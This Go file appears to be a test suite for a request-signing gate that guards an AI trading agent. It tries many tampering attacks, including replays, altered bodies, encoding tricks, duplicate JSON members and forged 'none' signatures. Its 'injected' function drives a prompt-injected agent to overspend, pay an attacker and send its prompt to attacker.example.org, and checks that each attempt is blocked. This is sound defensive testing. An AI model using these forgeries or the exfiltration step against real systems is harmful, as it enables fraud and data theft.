package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os/exec"
	"strings"
	"time"
	"unicode/utf16"

	"inkan/signer/client"
)

// attackApplication: the agent's own TLS connection, nothing confined; what refuses is the check
// of the action.
func attackApplication(ctx context.Context, w *world) error {
	x, err := newWired(ctx, w, "")
	if err != nil {
		return err
	}
	defer x.close()
	a := &applied{x, as(x.own, x.roots, "127.0.0.1")}
	if ok, said, err := x.trade(ctx, a.http); err != nil || !ok {
		return fmt.Errorf("what is in order is refused: %w: %s", err, said)
	}
	w.say("   the agent's own connection trades, and carries all that follows")
	for _, step := range []func(context.Context) error{a.requests, a.bodies, a.meanings, a.injected} {
		if err := step(ctx); err != nil {
			return err
		}
	}
	if n := x.taken.Load(); n != 3 { // one above, one that is replayed, one chunked
		return fmt.Errorf("the backend took %d orders, 3 were in order", n)
	}
	return nil
}

type applied struct {
	*wired
	http *http.Client
}

// send signs venueOrder and sends what change makes of the request.
func (a *applied) send(ctx context.Context, change func(*http.Request)) (bool, string, error) {
	jws, err := a.sign(ctx, venueOrder)
	if err != nil {
		return false, "", err
	}
	req, err := a.request(ctx, jws, []byte(venueOrder))
	if err != nil {
		return false, "", err
	}
	change(req)
	return post(a.http, req)
}

// gated is an attack that the gate must refuse with exactly this reason.
func (v *venue) gated(name, reason string, do func() (bool, string, error)) error {
	return v.attack(name, "gate", reason, func() (bool, string, error) {
		ok, said, err := do()
		if err == nil && !ok && !strings.Contains(said, `"reason":"`+reason+`"`) {
			return true, "refused for another reason than " + reason + ": " + said, nil
		}
		return ok, said, err
	})
}

// put replaces a request's body.
func put(req *http.Request, b []byte) {
	req.Body, req.ContentLength, req.GetBody = io.NopCloser(bytes.NewReader(b)), int64(len(b)), nil
}

// unsized hides a reader's length, so that the body goes in chunks.
type unsized struct{ io.Reader }

func chunk(req *http.Request, b []byte) {
	req.Body, req.ContentLength, req.GetBody = io.NopCloser(unsized{bytes.NewReader(b)}), -1, nil
}

// requests: the signed action beside another request than its own.
func (a *applied) requests(ctx context.Context) error {
	used, err := a.sign(ctx, venueOrder)
	if err != nil {
		return err
	}
	req, err := a.request(ctx, used, []byte(venueOrder))
	if err != nil {
		return err
	}
	if ok, said, err := post(a.http, req); err != nil || !ok {
		return fmt.Errorf("what is in order is refused: %w: %s", err, said)
	}
	for _, x := range []struct {
		name, check string
		change      func(*http.Request)
	}{
		{"header moved to another request", "body", func(r *http.Request) { put(r, []byte(strings.Replace(venueOrder, "A-991", "A-992", 1))) }},
		{"request sent again", "replay", func(r *http.Request) { r.Header.Set("Agent-Action", used) }},
		{"another method", "route", func(r *http.Request) { r.Method = http.MethodPut }},
		{"another path", "route", func(r *http.Request) { r.URL.Path = "/admin" }},
		{"another route, with another kind", "body", func(r *http.Request) { r.Method, r.URL.Path = http.MethodDelete, "/orders/A-991"; put(r, nil) }},
		{"path in another spelling", "request", func(r *http.Request) { r.URL.Path, r.URL.RawPath = "/orders", "/%6frders" }},
		{"path with dots", "request", func(r *http.Request) { r.URL.Path = "/x/../orders" }},
		{"query added", "request", func(r *http.Request) { r.URL.RawQuery = "qty=4000" }},
		{"no signed action", "form", func(r *http.Request) { r.Header.Del("Agent-Action") }},
		{"header twice", "form", func(r *http.Request) { r.Header.Add("Agent-Action", r.Header.Get("Agent-Action")) }},
		{"header twice, of two orders", "form", func(r *http.Request) { r.Header.Add("Agent-Action", used) }},
		{"two actions in one header", "form", func(r *http.Request) { r.Header.Set("Agent-Action", r.Header.Get("Agent-Action")+", "+used) }},
		{"signature cut off", "signature", func(r *http.Request) {
			s := r.Header.Get("Agent-Action")
			r.Header.Set("Agent-Action", s[:strings.LastIndex(s, ".")+1])
		}},
		{"content type that reads otherwise", "request", func(r *http.Request) { r.Header.Set("Content-Type", "application/x-www-form-urlencoded") }},
		{"content type twice", "request", func(r *http.Request) { r.Header.Add("Content-Type", "text/xml") }},
	} {
		if err := a.gated(x.name, x.check, func() (bool, string, error) { return a.send(ctx, x.change) }); err != nil {
			return err
		}
	}
	return nil
}

// bodies: the same order in other bytes, and other bytes.
func (a *applied) bodies(ctx context.Context) error {
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	if _, err := io.WriteString(z, venueOrder); err != nil {
		return err
	}
	if err := z.Close(); err != nil {
		return err
	}
	var wide []byte
	for _, u := range utf16.Encode([]rune("\ufeff" + venueOrder)) {
		wide = append(wide, byte(u>>8), byte(u))
	}
	changed := []byte(strings.Replace(venueOrder, `"qty":400`, `"qty":401`, 1))
	for _, x := range []struct {
		name, check string
		change      func(*http.Request)
	}{
		{"body changed after signing", "body", func(r *http.Request) { put(r, changed) }},
		{"body cut off", "body", func(r *http.Request) { put(r, []byte(venueOrder[:len(venueOrder)-1])) }},
		{"body with a space added", "body", func(r *http.Request) { put(r, []byte(venueOrder+" ")) }},
		{"no body", "body", func(r *http.Request) { put(r, nil) }},
		{"body compressed", "request", func(r *http.Request) { put(r, zipped.Bytes()); r.Header.Set("Content-Encoding", "gzip") }},
		{"body compressed, unsaid", "body", func(r *http.Request) { put(r, zipped.Bytes()) }},
		{"body in UTF-16", "body", func(r *http.Request) { put(r, wide) }},
		{"body in another charset", "request", func(r *http.Request) { r.Header.Set("Content-Type", "application/json; charset=utf-7") }},
		{"changed body in chunks", "body", func(r *http.Request) { chunk(r, changed) }},
		{"oversized body", "body", func(r *http.Request) { put(r, bytes.Repeat([]byte(" "), 128<<10)) }},
		{"oversized body in chunks", "body", func(r *http.Request) { chunk(r, bytes.Repeat([]byte(" "), 128<<10)) }},
	} {
		if err := a.gated(x.name, x.check, func() (bool, string, error) { return a.send(ctx, x.change) }); err != nil {
			return err
		}
	}
	// The same bytes in chunks are the same message.
	if ok, said, err := a.send(ctx, func(r *http.Request) { chunk(r, []byte(venueOrder)) }); err != nil || !ok {
		return fmt.Errorf("the signed body in chunks is refused: %w: %s", err, said)
	}
	return nil
}

// meanings: the digest is right, and the message says something else than the action.
func (a *applied) meanings(ctx context.Context) error {
	for _, x := range []struct {
		name, body string
		changes    []string
	}{
		{"small order signed over a large message", strings.Replace(venueOrder, `"qty":400`, `"qty":4000`, 1), nil},
		{"buy signed over a sell", strings.Replace(venueOrder, "buy", "sell", 1), nil},
		{"quantity twice in the message", strings.Replace(venueOrder, `"qty":400`, `"qty":400,"qty":4000`, 1), nil},
		{"quantity twice, the second in another case", strings.Replace(venueOrder, `"qty":400`, `"qty":400,"Qty":4000`, 1), nil},
		{"a member that the venue may know", strings.Replace(venueOrder, `"type"`, `"account":"other","type"`, 1), nil},
		{"quantity with an exponent", strings.Replace(venueOrder, `400`, `4e3`, 1), nil},
		{"a limit order as the venue's market order", strings.Replace(venueOrder, `"limit"`, `"market"`, 1), nil},
		{"immediate or cancel, which the message does not say", venueOrder, []string{`"TimeInForce":"0"`, `"TimeInForce":"3"`}},
	} {
		if err := a.gated(x.name, "mismatch", func() (bool, string, error) {
			jws, err := a.sign(ctx, x.body, x.changes...)
			if err != nil {
				return false, "", err
			}
			req, err := a.request(ctx, jws, []byte(x.body))
			if err != nil {
				return false, "", err
			}
			return post(a.http, req)
		}); err != nil {
			return err
		}
	}
	return nil
}

// injected runs an agent that obeys its prompt, unconfined, with everything in
// the prompt that it should not do. It signs and sends what it is told.
func (a *applied) injected(ctx context.Context) error {
	python, err := python()
	if err != nil {
		return err
	}
	if err := a.write("trader.py", string(traderScript)); err != nil {
		return err
	}
	// The same agent, called by the interpreter.
	if err := a.signerConfig(map[string]string{"mm-07": python, "mm-08": a.inkan}); err != nil {
		return err
	}
	a.world.signer.stop()
	if err := a.startSigner(); err != nil {
		return err
	}
	large := strings.Replace(venueOrder, `"qty":400`, `"qty":4000`, 1)
	payment := []byte(`{"aud":"XPAR","act":"payment.withdraw","pay":{"Amount":"1","Currency":"EUR","Destination":"me"},"id":"` + client.NewID() + `"}`)
	foreign, err := a.ofAnother(ctx)
	if err != nil {
		return err
	}
	demands := []struct {
		name, by, check string
		job             job
	}{
		{"buy for ten times the limit", "signer", "max_order_notional", job{Action: rawOrder(`"400"`, `"4000"`), Body: large}},
		{"buy at another venue", "signer", "allowed_venues", job{Action: rawOrder("XPAR", "XLON"), Body: venueOrder}},
		{"buy what is not on the list", "signer", "allowed_instruments", job{Action: rawOrder("FR0000120271", "FR0000131104"), Body: venueOrder}},
		{"a market order", "signer", "notional_undefined", job{Action: rawOrder(`"OrdType":"2","Price":"61.24"`, `"OrdType":"1"`), Body: venueOrder}},
		{"pay the attacker", "signer", "allowed_actions", job{Action: payment, Body: venueOrder}},
		{"sign these bytes", "signer", "form", job{Action: []byte(`{"digest":"AAAA"}`), Body: venueOrder}},
		{"sign a small order, send a large one", "gate", "body", job{Action: rawOrder(), Body: venueOrder, Instead: large}},
		{"sign a small order over a large one", "gate", "mismatch", job{Action: rawOrder(), Body: large}},
		{"send without a signature", "gate", "form", job{Body: venueOrder}},
		{"send another's signature", "gate", "peer", job{Body: venueOrder, Header: foreign}},
		{"make up a signature", "gate", "header", job{Body: venueOrder, Header: "eyJhbGciOiJub25lIn0.e30."}},
		{"call the venue's other pages", "gate", "route", job{Action: rawOrder(), Body: venueOrder, URL: "/admin/limits"}},
		{"call another server", "proxy", "destinations", job{Action: rawOrder(), Body: venueOrder, URL: "http://" + a.behind + "/orders"}},
		{"send what it knows to the attacker", "proxy", "destinations", job{Body: "the prompt", URL: "http://attacker.example.org/"}},
	}
	var jobs []job
	for _, d := range demands {
		jobs = append(jobs, d.job)
	}
	ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
	defer cancel()
	out, err := a.trader(exec.CommandContext(ctx, python, "-I", a.path("trader.py"), a.proxyAt, a.socket()), jobs)
	if err != nil {
		return err
	}
	for i, d := range demands {
		if err := a.attack("injected: "+d.name, d.by, d.check, func() (bool, string, error) { return out[i].Accepted, out[i].Said, nil }); err != nil {
			return err
		}
	}
	return nil
}

// ofAnother is an order that another agent signed.
func (a *applied) ofAnother(ctx context.Context) (string, error) {
	r, err := a.try(ctx, withBody(order(client.NewID()), []byte(venueOrder)), "sign", "--socket", a.socket(), "--action", "-")
	if err == nil && r.code != 0 {
		err = errors.New(r.stderr)
	}
	return strings.TrimSpace(r.stdout), err
}
